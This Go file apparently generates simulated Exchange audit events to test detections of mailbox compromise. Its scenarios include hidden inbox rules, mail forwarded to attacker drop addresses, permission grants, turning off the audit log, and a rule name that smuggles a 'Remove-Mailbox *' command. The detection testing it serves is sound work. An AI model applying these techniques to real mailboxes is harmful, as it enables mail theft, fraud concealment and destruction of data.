package simulate

import (
	"strconv"
	"strings"
	"time"
)

var exchangeScripts = []script{
	{name: "hiding-rule", summary: "an inbox rule called \".\" deletes mail about invoices and payments", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(finance)
			c := s.inboxRule(p, v, s.at(11*time.Minute), "New-InboxRule", ".", [][2]string{
				{"SubjectOrBodyContainsWords", "invoice;payment;wire transfer"}, {"DeleteMessage", "True"}, {"MarkAsRead", "True"}, {"StopProcessingRules", "True"}})
			s.expect("exchange-hiding-inbox-rule", byUser(p, "mailbox", p.upn), c)
		}},
	{name: "hiding-rule-folder", summary: "a rule whose name is a blank moves a bank's mail to RSS Feeds", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(finance)
			c := s.inboxRule(p, v, s.at(9*time.Minute), "New-InboxRule", " ", [][2]string{
				{"From", "accounts@bank.example"}, {"MoveToFolder", p.alias + `:\RSS Feeds`}, {"MarkAsRead", "True"}})
			s.expect("exchange-hiding-inbox-rule", byUser(p, "mailbox", p.upn), c)
		}},
	{name: "hiding-rule-invisible", summary: "a rule whose name has only invisible characters deletes what one sender writes", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(finance)
			c := s.inboxRule(p, v, s.at(9*time.Minute), "New-InboxRule", "\u200b\u202e", [][2]string{
				{"From", "audit@bank.example"}, {"SoftDeleteMessage", "True"}, {"DeleteMessage", "True"}})
			s.expect("exchange-hiding-inbox-rule", byUser(p, "mailbox", p.upn), c)
		}},
	{name: "hiding-rule-outlook", summary: "the same from a desktop client: delete what one sender writes", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(finance)
			c := s.outlookRule(p, v, s.at(8*time.Minute), formA(".", "{([SenderSearchKey Equal SMTP:CFO@"+strings.ToUpper(s.g.tenant.domain)+"])}", `[{"ActionType":"Delete"}]`))
			s.expect("exchange-hiding-inbox-rule", byUser(p, "mailbox", p.upn), c)
		}},
	{name: "hiding-rule-ews", summary: "the same through web services", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(finance)
			c := s.outlookRule(p, v, s.at(8*time.Minute), formB("..", `[{"ConditionType":"ContainsSubjectStringsCondition","Values":["invoice","payment"]}]`,
				`[{"ActionType":"DeleteAction"},{"ActionType":"StopProcessingAction"}]`))
			s.expect("exchange-hiding-inbox-rule", byUser(p, "mailbox", p.upn), c)
		}},
	{name: "near-hiding-rule", summary: "mail with invoices goes to the folder Invoices, a newsletter to the archive", near: true, lasts: 2 * time.Hour,
		play: func(s *stage) {
			p := s.victim(finance)
			v := s.inside(p)
			a := s.inboxRule(p, v, s.at(0), "New-InboxRule", "Invoices", [][2]string{
				{"SubjectContainsWords", "invoice"}, {"MoveToFolder", p.alias + `:\Invoices`}, {"StopProcessingRules", "True"}})
			b := s.inboxRule(p, v, s.at(5*time.Minute), "New-InboxRule", "Newsletters", [][2]string{
				{"FromAddressContainsWords", "newsletter@;news@"}, {"MoveToFolder", p.alias + `:\Archive`}, {"MarkAsRead", "True"}})
			s.expect("exchange-hiding-inbox-rule", byUser(p, "mailbox", p.upn), a, b)
		}},
	{name: "forward-rule", summary: "an inbox rule sends everything outside, behind an inside address", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(-1)
			c := s.inboxRule(p, v, s.at(10*time.Minute), "New-InboxRule", "backup copy", [][2]string{
				{"ForwardTo", "smtp:" + s.drop() + ";" + s.victim(-1).typed}, {"StopProcessingRules", "True"}})
			s.expect("exchange-external-forwarding", byUser(p, "mailbox", p.upn), c)
		}},
	{name: "forward-rule-quoted", summary: "the same, with a name made to break out of a suggested command", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(-1)
			c := s.inboxRule(p, v, s.at(10*time.Minute), "New-InboxRule", "done\u2019; Remove-Mailbox *; '\x1b[2J", [][2]string{
				{"ForwardAsAttachmentTo", `"Archive" [SMTP:` + s.drop() + `]`}, {"SubjectContainsWords", "minutes"}})
			s.expect("exchange-external-forwarding", byUser(p, "mailbox", p.upn), c)
		}},
	{name: "forward-mailbox", summary: "the mailbox itself forwards outside and keeps nothing", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(-1)
			s.expect("exchange-external-forwarding", byUser(p, "mailbox", p.upn), s.forward(p, v, s.at(10*time.Minute), "smtp:"+s.drop(), "False"))
		}},
	{name: "forward-lookalike", summary: "mail is forwarded to a domain that ends like the tenant's own", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(-1)
			s.expect("exchange-external-forwarding", byUser(p, "mailbox", p.upn), s.forward(p, v, s.at(10*time.Minute), "smtp:archive@evil"+s.g.tenant.domain, "True"))
		}},
	{name: "forward-outlook", summary: "a rule of the desktop client forwards outside", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(-1)
			c := s.outlookRule(p, v, s.at(10*time.Minute), formA("copies", "{([SenderSearchKey Equal SMTP:SALES@"+strings.ToUpper(s.g.tenant.domain)+"])}",
				`[{"ActionType":"Forward","Recipients":["`+s.drop()+`"]}]`))
			s.expect("exchange-external-forwarding", byUser(p, "mailbox", p.upn), c)
		}},
	{name: "forward-ews", summary: "a rule made through web services redirects outside", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, v := s.intruder(-1)
			c := s.outlookRule(p, v, s.at(10*time.Minute), formB("copies for home", `[{"ConditionType":"ContainsSubjectStringsCondition","Values":["offer"]}]`,
				`[{"ActionType":"RedirectToRecipientsAction","Recipients":[{"Values":[{"Name":"EmailAddress","Value":"`+s.drop()+`"}]}]}]`))
			s.expect("exchange-external-forwarding", byUser(p, "mailbox", p.upn), c)
		}},
	{name: "near-forward", summary: "forwards to a colleague and to a subdomain, and one that is taken away", near: true, lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, to := s.victim(-1), s.victim(-1)
			v := s.inside(p)
			s.expect("exchange-external-forwarding", byUser(p, "mailbox", p.upn),
				s.inboxRule(p, v, s.at(0), "New-InboxRule", "While I am away", [][2]string{{"ForwardTo", to.typed}, {"SubjectContainsWords", "order"}}),
				s.forward(p, v, s.at(9*time.Minute), "smtp:"+p.alias+"@mail."+s.g.tenant.domain, "True"),
				s.forward(p, v, s.at(30*time.Minute), "", "False"))
		}},
	{name: "non-owner-access", summary: "an administrator reads the mailbox of somebody in finance", lasts: 2 * time.Hour,
		play: func(s *stage) {
			p, owner := s.administrator(), s.victim(finance)
			s.expect("exchange-non-owner-access", byUser(p, "mailbox", owner.upn), s.readOthers(p, s.inside(p), owner, s.at(0), 6)...)
		}},
	{name: "grant-full-access", summary: "FullAccess to a mailbox for somebody else", lasts: time.Hour, play: func(s *stage) {
		admin, owner, to := s.administrator(), s.victim(finance), s.victim(-1)
		s.expect("exchange-mailbox-permission", byUser(admin, "mailbox", owner.upn), s.fullAccess(admin, s.inside(admin), s.at(0), owner, to))
	}},
	{name: "grant-send-as", summary: "the right to send as somebody", lasts: time.Hour, play: func(s *stage) {
		admin, owner, to := s.administrator(), s.victim(finance), s.victim(-1)
		v := s.inside(admin)
		c := s.cmdlet(admin, v, s.at(0), cmdlet{op: "Add-RecipientPermission", object: owner.alias, params: [][2]string{
			{"Identity", owner.typed}, {"Trustee", to.typed}, {"AccessRights", "SendAs"}, {"Confirm", "False"}}})
		s.expect("exchange-mailbox-permission", byUser(admin, "mailbox", owner.upn), c)
	}},
	{name: "grant-send-on-behalf", summary: "the right to send on behalf of somebody", lasts: time.Hour, play: func(s *stage) {
		admin, owner, to := s.administrator(), s.victim(finance), s.victim(-1)
		v := s.inside(admin)
		c := s.cmdlet(admin, v, s.at(0), cmdlet{op: "Set-Mailbox", object: owner.alias, params: [][2]string{
			{"Identity", s.g.hosted(owner.alias)}, {"GrantSendOnBehalfTo", to.typed}}})
		s.expect("exchange-mailbox-permission", byUser(admin, "mailbox", owner.alias), c) // all that the record says of it
	}},
	{name: "near-grant", summary: "a folder of the calendar for a colleague, for looking only", near: true, lasts: time.Hour, play: func(s *stage) {
		p, to := s.victim(-1), s.victim(-1)
		c := s.cmdlet(p, s.inside(p), s.at(0), cmdlet{op: "Add-MailboxFolderPermission", object: p.alias + `:\Calendar`, params: [][2]string{
			{"Identity", p.typed + `:\Calendar`}, {"User", to.typed}, {"AccessRights", "Reviewer"}}})
		s.expect("exchange-mailbox-permission", byUser(p, "mailbox", p.upn), c)
	}},
	{name: "transport-redirect", summary: "a transport rule copies mail outside", lasts: time.Hour, play: func(s *stage) {
		admin := s.administrator()
		c := s.cmdlet(admin, s.inside(admin), s.at(0), cmdlet{op: "New-TransportRule", params: [][2]string{
			{"Name", "Journal 2"}, {"BlindCopyTo", s.drop()}, {"SentToScope", "InOrganization"}, {"Mode", "Enforce"}}})
		s.expect("exchange-transport-redirect", byUser(admin), c)
	}},
	{name: "audit-off", summary: "the audit log of the whole tenant is switched off", lasts: time.Hour, play: func(s *stage) {
		admin := s.administrator()
		c := s.cmdlet(admin, s.inside(admin), s.at(0), cmdlet{op: "Set-AdminAuditLogConfig", object: s.g.tenant.initial + `\Admin Audit Log Settings`,
			params: [][2]string{{"UnifiedAuditLogIngestionEnabled", "False"}}})
		s.expect("exchange-audit-tampered", byUser(admin), c)
	}},
}

// intruder is somebody of a department and a visit from far away that has just signed in with their account.
func (s *stage) intruder(department int) (*person, *visit) {
	p := s.victim(department)
	v := s.far()
	s.signIn(p, v, s.at(0), signedIn)
	return p, v
}

// drop is an address of the attackers, a new one each time.
func (s *stage) drop() string { return "drop" + strconv.Itoa(100+s.d.n(900)) + "@" + evil }

func (s *stage) cmdlet(p *person, v *visit, t int64, c cmdlet) shot {
	return s.add(t, func(t int64, id guid) { s.g.cmdlet(p, v, t, id, c) })
}

func (s *stage) inboxRule(p *person, v *visit, t int64, op, name string, params [][2]string) shot {
	// Of a name of blanks the parameter shows nothing; it survives in ObjectId alone.
	all := append([][2]string{{"AlwaysDeleteOutlookRulesBlob", "False"}, {"Force", "False"}, {"Name", strings.TrimSpace(name)}}, params...)
	return s.cmdlet(p, v, t, cmdlet{op: op, object: s.g.hosted(p.alias) + `\` + name, params: all})
}

func (s *stage) forward(p *person, v *visit, t int64, to, keep string) shot {
	return s.cmdlet(p, v, t, cmdlet{op: "Set-Mailbox", object: p.alias, params: [][2]string{
		{"Identity", p.typed}, {"ForwardingSmtpAddress", to}, {"DeliverToMailboxAndForward", keep}}})
}

func (s *stage) fullAccess(admin *person, v *visit, t int64, owner, to *person) shot {
	return s.cmdlet(admin, v, t, cmdlet{op: "Add-MailboxPermission", object: owner.typed, params: [][2]string{
		{"Identity", owner.typed}, {"User", to.typed}, {"AccessRights", "FullAccess"}, {"InheritanceType", "All"}, {"AutoMapping", "False"}}})
}

func (s *stage) outlookRule(p *person, v *visit, t int64, pairs [][2]string) shot {
	return s.add(t, func(t int64, id guid) { s.g.outlookRule(p, v, t, id, pairs) })
}

// readOthers is n reads of owner's mailbox by p.
func (s *stage) readOthers(p *person, v *visit, owner *person, t int64, n int) []shot {
	var shots []shot
	for range n {
		shots = append(shots, s.add(t, func(t int64, id guid) { s.g.mailRead(p, v, t, id, mailAct{owner: owner}, false) }))
		t += s.d.span(40, 200)
	}
	return shots
}

// formA is the OperationProperties of a rule that Outlook's desktop client adds.
func formA(name, condition, actions string) [][2]string {
	return [][2]string{{"RuleOperation", "AddMailboxRule"}, {"RuleId", "7"}, {"RuleState", "Enabled, ExitAfterExecution"}, {"RuleCondition", condition},
		{"RuleName", name}, {"RuleProvider", "RuleOrganizer"}, {"RuleActions", actions}}
}

// formB is those of a rule that a client of web services adds.
func formB(name, conditions, actions string) [][2]string {
	return [][2]string{{"RuleOperation", "Create"}, {"RemoveOutlookRuleBlob", "True"}, {"IsNew", "True"}, {"IsDirty", "True"}, {"Name", name},
		{"Provider", "ExchangeMailboxRules14"}, {"ServerRule", "True"}, {"Conditions", conditions}, {"Actions", actions}}
}
